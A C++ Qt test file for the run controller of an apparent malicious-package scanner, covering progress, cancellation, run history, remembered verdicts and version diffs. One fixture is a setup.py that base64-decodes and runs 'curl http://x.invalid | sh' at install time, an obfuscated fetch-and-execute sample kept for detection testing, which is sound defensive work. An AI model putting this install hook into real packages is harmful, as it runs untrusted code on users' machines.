// The run controller with stand-in scan functions: progress reaches the GUI thread, a newer run drops the older
// one's result, cancel stops a run and keeps the previous result, a failure is reported. With a history file (real
// runs of the embedded demo corpus): the second run has seen every package, a verdict given between the runs makes
// that package a remembered known neighbour that the explanation names, and a history that cannot be opened does not
// stop the run. The version diff's earlier version, found among the run's packages and in the history, on two
// versions of one project written as sdists.
#include "../corpus/archive_builder.h"
#include "earlier_version.h"
#include "explanation_html.h"
#include "history_recorder.h"
#include "line_diff.h"
#include "ranking/call_changes.h"
#include "run_controller.h"
#include "scan_fixture.h"
#include "workbench_settings.h"

#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <QDir>

#include <algorithm>
#include <thread>

using namespace mph::app;
using namespace std::chrono_literals;

namespace {

// Reports `steps` items of progress, one every 2 ms, checking the cancel flag between them.
mph::ScanOutcome slowScan(const mph::ScanOptions &options, const mph::ProgressCallback &progress,
                          const std::atomic<bool> *cancel, int steps) {
    for (int i = 1; i <= steps; ++i) {
        if (cancel && *cancel) return {{}, true};
        std::this_thread::sleep_for(2ms);
        if (progress) progress({"analysing", std::size_t(i), std::size_t(steps)});
    }
    mph::ScanOutcome outcome{*mph::test::makeScanFixture(), false};
    outcome.result.batchNames = {options.batches.empty() ? "demo" : options.batches[0].name};
    return outcome;
}

mph::ScanOptions named(const std::string &name) {
    mph::ScanOptions options;
    options.batches.push_back({name, {}});
    return options;
}

// Runs `options` to completion with the controller's history settings; fails the test otherwise.
bool runToEnd(RunController &controller, const mph::ScanOptions &options) {
    QSignalSpy finished(&controller, &RunController::finished);
    QSignalSpy failed(&controller, &RunController::failed);
    controller.start(options);
    if (!finished.wait(240000)) {
        qWarning() << "no result:" << failed;
        return false;
    }
    return !finished[0][2].toBool() && controller.result() && controller.history();
}

// An sdist of `name` `version`: PKG-INFO, setup.py and the package's __init__.py.
std::string sdist(const std::string &name, const std::string &version, const std::string &setup) {
    const std::string root = name + "-" + version + "/";
    return mph::test::buildArchive(
        mph::test::Format::TarGz,
        {mph::test::file(root + "PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"),
         mph::test::file(root + "setup.py", setup),
         mph::test::file(root + name + "/__init__.py", "VERSION = '" + version + "'\n")});
}

void writeFile(const QString &path, const std::string &bytes) {
    QFile file(path);
    QVERIFY2(file.open(QIODevice::WriteOnly), qPrintable(path));
    file.write(bytes.data(), qint64(bytes.size()));
}

const char *const kSetupBefore = "from setuptools import setup\n\n"
                                 "setup(\n    name='evilproj',\n    version='1.0',\n    packages=['evilproj'],\n)\n";
const char *const kSetupAfter = "from setuptools import setup\nimport os\nimport base64\n\n"
                                "os.system(base64.b64decode('Y3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2g=').decode())\n"
                                "setup(\n    name='evilproj',\n    version='1.1',\n    packages=['evilproj'],\n)\n";

} // namespace

class TestRunController : public QObject {
    Q_OBJECT
  private slots:
    void runsOnAWorkerAndReportsProgress() {
        const auto guiThread = std::this_thread::get_id();
        std::atomic<bool> ranElsewhere{false};
        RunController controller([&](const auto &options, const auto &progress, const auto *cancel) {
            ranElsewhere = std::this_thread::get_id() != guiThread;
            return slowScan(options, progress, cancel, 10);
        });
        QSignalSpy progress(&controller, &RunController::progressed);
        QSignalSpy finished(&controller, &RunController::finished);
        const quint64 job = controller.start(named("first"));
        QVERIFY(controller.isRunning());
        QVERIFY(finished.wait(5000));
        QVERIFY(ranElsewhere);
        QVERIFY(!controller.isRunning());
        QCOMPARE(finished.count(), 1);
        QCOMPARE(finished[0][0].toULongLong(), job);
        QCOMPARE(finished[0][2].toBool(), false);
        QVERIFY(progress.count() >= 1);
        const QList<QVariant> last = progress.last(); // the last item is always reported
        QCOMPARE(last[1].toString(), QStringLiteral("analysing"));
        QCOMPARE(last[2].toLongLong(), 10);
        QCOMPARE(last[3].toLongLong(), 10);
        QVERIFY(controller.result());
        QCOMPARE(controller.result()->batchNames[0], std::string("first"));
        QCOMPARE(controller.result()->ranking.size(), std::size_t(3));
    }

    void newerRunDropsTheOlder() {
        RunController controller([](const auto &options, const auto &progress, const auto *) {
            // The first run ignores cancellation on purpose: its late result must still be dropped.
            return slowScan(options, progress, nullptr, options.batches[0].name == "old" ? 60 : 5);
        });
        QSignalSpy finished(&controller, &RunController::finished);
        controller.start(named("old"));
        const quint64 second = controller.start(named("new"));
        QVERIFY(finished.wait(5000));
        QTest::qWait(300); // give the old run time to finish and (not) deliver
        QCOMPARE(finished.count(), 1);
        QCOMPARE(finished[0][0].toULongLong(), second);
        QCOMPARE(controller.result()->batchNames[0], std::string("new"));
    }

    void cancelStopsAndKeepsThePreviousResult() {
        std::atomic<int> seenSteps{0};
        RunController controller([&](const auto &options, const auto &progress, const auto *cancel) {
            return slowScan(
                options,
                [&](const mph::ScanProgress &p) {
                    seenSteps = int(p.done);
                    progress(p);
                },
                cancel, options.batches[0].name == "long" ? 100000 : 3);
        });
        QSignalSpy finished(&controller, &RunController::finished);
        controller.start(named("short"));
        QVERIFY(finished.wait(5000));
        const ScanPtr previous = controller.result();
        controller.start(named("long"));
        QTRY_VERIFY(seenSteps > 5);
        QElapsedTimer timer;
        timer.start();
        controller.cancel();
        QVERIFY(finished.wait(5000));
        QVERIFY(timer.elapsed() < 1000);
        QCOMPARE(finished.last()[2].toBool(), true);
        QVERIFY(!controller.isRunning());
        QCOMPARE(controller.result(), previous);
    }

    void failureIsReported() {
        RunController controller([](const auto &, const auto &, const auto *) -> mph::ScanOutcome {
            throw std::runtime_error("disk on fire");
        });
        QSignalSpy failed(&controller, &RunController::failed);
        QSignalSpy finished(&controller, &RunController::finished);
        controller.start(mph::ScanOptions{});
        QVERIFY(failed.wait(5000));
        QCOMPARE(failed[0][1].toString(), QStringLiteral("disk on fire"));
        QCOMPARE(finished.count(), 0);
        QVERIFY(!controller.isRunning());
    }

    void destroyingWhileRunningWaits() {
        auto controller =
            std::make_unique<RunController>([](const auto &options, const auto &progress, const auto *cancel) {
                return slowScan(options, progress, cancel, 100000);
            });
        controller->start(named("x"));
        QTest::qWait(20);
        controller.reset(); // cancels and waits; must not crash or hang
        QVERIFY(true);
    }

    void demoRunsRememberPackagesAndVerdicts() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("history.sqlite"));
        RunController controller;
        controller.setHistory(path, true);
        QVERIFY(runToEnd(controller, demoScanOptions()));
        const RunHistoryPtr first = controller.history();
        QCOMPARE(first->path, path);
        QVERIFY2(first->problem.isEmpty(), qPrintable(first->problem));
        QVERIFY(first->batchPackages > 10);
        QCOMPARE(first->newPackages, first->batchPackages);
        QCOMPARE(first->rememberedKnown, 0);
        const ScanPtr scan1 = controller.result();
        QCOMPARE(scan1->packageMemory.size(), scan1->packages.size());

        // A verdict given between the runs, as the GUI's case pane gives it: the top-ranked batch package.
        const mph::Package &judged = scan1->packages[scan1->scripts[scan1->ranking[0].entry].package];
        CaseFile caseFile;
        caseFile.name = fromBytes(judged.name);
        caseFile.version = fromBytes(judged.version);
        caseFile.archiveSha256 = QString::fromStdString(judged.sha256);
        caseFile.verdict = Verdict::Malicious;
        caseFile.notes = QStringLiteral("posts ~/.ssh");
        HistoryRecorder recorder;
        recorder.setPath(path);
        QSignalSpy recorded(&recorder, &HistoryRecorder::recorded);
        QCOMPARE(recorder.record(verdictRecordFor(caseFile, QStringLiteral("/cases/x.mphcase"), QStringLiteral("ana"))),
                 QString());
        QCOMPARE(recorded.count(), 1);
        QCOMPARE(recorder.record(verdictRecordFor(caseFile, {}, QStringLiteral("ana"))), QString()); // no news
        QCOMPARE(recorded.count(), 1);

        QVERIFY(runToEnd(controller, demoScanOptions()));
        const RunHistoryPtr second = controller.history();
        QVERIFY2(second->problem.isEmpty(), qPrintable(second->problem));
        QCOMPARE(second->batchPackages, first->batchPackages);
        QCOMPARE(second->newPackages, 0);
        QCOMPARE(second->rememberedKnown, 1);
        const ScanPtr scan2 = controller.result();
        for (std::size_t p = 0; p < scan2->packages.size(); ++p)
            if (scan2->packageRoles[p] == mph::Role::Batch) QVERIFY(scan2->packageMemory[p].seenBefore);

        // The judged package is now a known package of the run, remembered, and someone's nearest known neighbour.
        std::optional<std::uint32_t> remembered;
        for (std::uint32_t p = 0; p < scan2->packages.size(); ++p)
            if (scan2->packageRemembered[p]) remembered = p;
        QVERIFY(remembered);
        QCOMPARE(scan2->packageRoles[*remembered], mph::Role::Known);
        QCOMPARE(scan2->packages[*remembered].sha256, judged.sha256);
        const auto verdict = second->rememberedVerdicts.constFind(QString::fromStdString(judged.sha256));
        QVERIFY(verdict != second->rememberedVerdicts.constEnd());
        QCOMPARE(verdict->analyst, QStringLiteral("ana"));
        QCOMPARE(verdict->caseFile, QStringLiteral("/cases/x.mphcase"));
        QCOMPARE(verdict->note, QStringLiteral("posts ~/.ssh"));
        std::optional<std::pair<std::size_t, std::size_t>> shown; // ranking row, neighbour
        for (std::size_t row = 0; row < scan2->ranking.size() && !shown; ++row)
            for (std::size_t k = 0; k < scan2->ranking[row].nearestKnown.size(); ++k)
                if (scan2->scripts[scan2->ranking[row].nearestKnown[k]].package == *remembered) {
                    shown = std::pair{row, k};
                    break;
                }
        QVERIFY(shown);
        const QString date = verdict->at.toLocalTime().date().toString(Qt::ISODate);
        ExplanationExtras extras;
        extras.history = second.get();
        extras.analyst = QStringLiteral("ana");
        const QString mine = explanationHtml(*scan2, shown->first, shown->second, extras);
        QVERIFY2(mine.contains(QStringLiteral("judged malicious by you on ") + date), qPrintable(mine.left(4000)));
        QVERIFY(mine.contains(fromBytes(judged.name)));
        extras.analyst = QStringLiteral("someone else");
        QVERIFY(explanationHtml(*scan2, shown->first, shown->second, extras)
                    .contains(QStringLiteral("judged malicious by ana on ") + date));
        QVERIFY(!explanationHtml(*scan2, shown->first, shown->second).contains(QStringLiteral("judged malicious")));

        // Feedback off: the run is recorded, but no verdict teaches it.
        controller.setHistory(path, false);
        QVERIFY(runToEnd(controller, demoScanOptions()));
        QCOMPARE(controller.history()->rememberedKnown, 0);
        QCOMPARE(controller.history()->newPackages, 0);
        for (const bool r : controller.result()->packageRemembered)
            QVERIFY(!r);
    }

    void unusableHistoryDoesNotStopTheRun() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("notes.sqlite"));
        writeFile(path, std::string("these are my notes, not a database\n"));
        RunController controller([](const auto &options, const auto &progress, const auto *cancel) {
            return slowScan(options, progress, cancel, 3);
        });
        controller.setHistory(path, true);
        QVERIFY(runToEnd(controller, named("x")));
        QVERIFY(controller.history()->problem.contains(path));
        QCOMPARE(controller.result()->ranking.size(), std::size_t(3));
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(file.readAll(), QByteArray("these are my notes, not a database\n")); // never overwritten
    }

    void earlierVersionFromTheRunAndFromTheHistory() {
        QTemporaryDir dir;
        QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("old")) && QDir(dir.path()).mkpath(QStringLiteral("new")));
        const QString oldArchive = dir.filePath(QStringLiteral("old/evilproj-1.0.tar.gz"));
        const std::string oldBytes = sdist("evilproj", "1.0", kSetupBefore);
        writeFile(oldArchive, oldBytes);
        writeFile(dir.filePath(QStringLiteral("new/evilproj-1.1.tar.gz")), sdist("evilproj", "1.1", kSetupAfter));
        writeFile(dir.filePath(QStringLiteral("new/otherproj-2.0.tar.gz")), sdist("otherproj", "2.0", kSetupBefore));
        const QString history = dir.filePath(QStringLiteral("history.sqlite"));
        const auto batch = [&](const QString &folder) {
            mph::ScanOptions options;
            options.batches.push_back({folder.toStdString(), {dir.filePath(folder).toStdString()}});
            options.background = {dir.filePath(QStringLiteral("old")).toStdString()};
            options.projection = false;
            return options;
        };
        const auto packageNamed = [](const mph::ScanResult &scan, const std::string &name, mph::Role role) {
            for (std::uint32_t p = 0; p < scan.packages.size(); ++p)
                if (scan.packages[p].name == name && scan.packageRoles[p] == role) return p;
            return std::uint32_t(-1);
        };

        // 1.0 in the background: the run itself holds the earlier version.
        RunController controller;
        controller.setHistory(history, true);
        QVERIFY(runToEnd(controller, batch(QStringLiteral("new"))));
        ScanPtr scan = controller.result();
        const std::uint32_t later = packageNamed(*scan, "evilproj", mph::Role::Batch);
        QVERIFY(later < scan->packages.size());
        std::optional<EarlierVersionRef> earlier = findEarlierVersion(*scan, later, controller.history().get());
        QVERIFY(earlier);
        QCOMPARE(earlier->version, QStringLiteral("1.0"));
        QVERIFY(!earlier->fromHistory);
        QVERIFY(!findEarlierVersion(*scan, packageNamed(*scan, "otherproj", mph::Role::Batch), nullptr));

        EarlierVersionFiles files = loadEarlierVersion(*earlier, history, batch(QStringLiteral("new")));
        QVERIFY2(files.error.isEmpty(), qPrintable(files.error));
        QCOMPARE(files.fileText(QStringLiteral("setup.py")), std::optional<QByteArray>(kSetupBefore));
        QVERIFY(files.fileText(QStringLiteral("evilproj/__init__.py")));
        const mph::CallSequence *before = files.sequence(QStringLiteral("setup.py"));
        QVERIFY(before);
        const mph::ScriptEntry *install = nullptr;
        for (const mph::ScriptEntry &entry : scan->scripts)
            if (entry.package == later && entry.scope == mph::Scope::Install) install = &entry;
        QVERIFY(install);
        const std::vector<std::string> added = mph::callsAdded(*before, scan->sequences[install->unique]);
        QVERIFY(!added.empty());
        QVERIFY2(std::any_of(added.begin(), added.end(),
                             [](const std::string &call) { return call.find("system") != std::string::npos; }),
                 added.front().c_str());
        const LineDiff diff =
            diffLines(splitLines(*files.fileText(QStringLiteral("setup.py"))), splitLines(QByteArray(kSetupAfter)));
        QCOMPARE(diff.added, 3);
        QCOMPARE(diff.changed, 1);

        // Without the background, the history knows 1.0 once a run has seen it: its file while it holds the same
        // bytes, its copy once it was judged, and a clear error when neither is left.
        mph::ScanOptions first = batch(QStringLiteral("old"));
        first.background.clear();
        QVERIFY(runToEnd(controller, first));
        mph::ScanOptions second = batch(QStringLiteral("new"));
        second.background.clear();
        QVERIFY(runToEnd(controller, second));
        scan = controller.result();
        const std::uint32_t again = packageNamed(*scan, "evilproj", mph::Role::Batch);
        earlier = findEarlierVersion(*scan, again, controller.history().get());
        QVERIFY(earlier);
        QVERIFY(earlier->fromHistory);
        QCOMPARE(earlier->version, QStringLiteral("1.0"));
        QCOMPARE(earlier->archivePath, oldArchive);
        files = loadEarlierVersion(*earlier, history, second);
        QVERIFY2(files.error.isEmpty(), qPrintable(files.error));
        QCOMPARE(files.from, oldArchive);

        writeFile(oldArchive, sdist("evilproj", "1.0", "print('replaced')\n"));
        files = loadEarlierVersion(*earlier, history, second);
        QVERIFY(files.error.contains(oldArchive));
        QVERIFY(files.package.scripts.empty());

        writeFile(oldArchive, oldBytes);
        VerdictRecord verdict;
        verdict.archiveSha256 = earlier->archiveSha256;
        verdict.verdict = Verdict::Malicious;
        verdict.analyst = QStringLiteral("ana");
        HistoryRecorder recorder;
        recorder.setPath(history);
        QCOMPARE(recorder.record(verdict), QString()); // the history keeps a copy of the judged archive
        QVERIFY(QFile::remove(oldArchive));
        QVERIFY(runToEnd(controller, second));
        scan = controller.result();
        earlier =
            findEarlierVersion(*scan, packageNamed(*scan, "evilproj", mph::Role::Batch), controller.history().get());
        QVERIFY(earlier && earlier->hasArchiveCopy);
        files = loadEarlierVersion(*earlier, history, second);
        QVERIFY2(files.error.isEmpty(), qPrintable(files.error));
        QCOMPARE(files.fileText(QStringLiteral("setup.py")), std::optional<QByteArray>(kSetupBefore));
    }
};

QTEST_GUILESS_MAIN(TestRunController)
#include "tst_run_controller.moc"
